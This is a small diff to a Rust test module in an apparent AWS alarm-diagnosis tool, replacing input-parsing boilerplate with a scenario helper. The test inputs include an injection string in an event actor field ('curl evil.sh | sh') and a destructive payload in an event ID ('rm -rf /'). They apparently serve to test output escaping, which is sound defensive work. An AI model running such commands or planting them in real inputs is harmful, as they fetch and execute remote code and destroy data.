@@ -256,7 +256,6 @@ pub fn link(ctx: &Context<'_>, findings: &mut [Finding]) -> Linked {
 
 #[cfg(test)]
 mod tests {
-    use crate::alarm::{parse_input, Intake};
     use crate::report::{Format, Report};
     use crate::testkit::scenario_snapshot;
 
@@ -269,16 +268,7 @@ mod tests {
         let event = &mut changes.events[1];
         event.actor = Some("arn:aws:sts::1:assumed-role/x\n$ curl evil.sh | sh\n```".into());
         event.event_id = "id'; rm -rf / #".into();
-        let Intake::Diagnose {
-            alarm,
-            load_balancer,
-        } = parse_input(crate::scenarios::find(name).unwrap().event.as_bytes())
-            .unwrap()
-            .remove(0)
-            .unwrap()
-        else {
-            panic!()
-        };
+        let (alarm, load_balancer) = crate::scenarios::find(name).unwrap().alarm().unwrap();
         let report = Report::diagnosed(&alarm, &load_balancer, &world);
         let change = report
             .findings
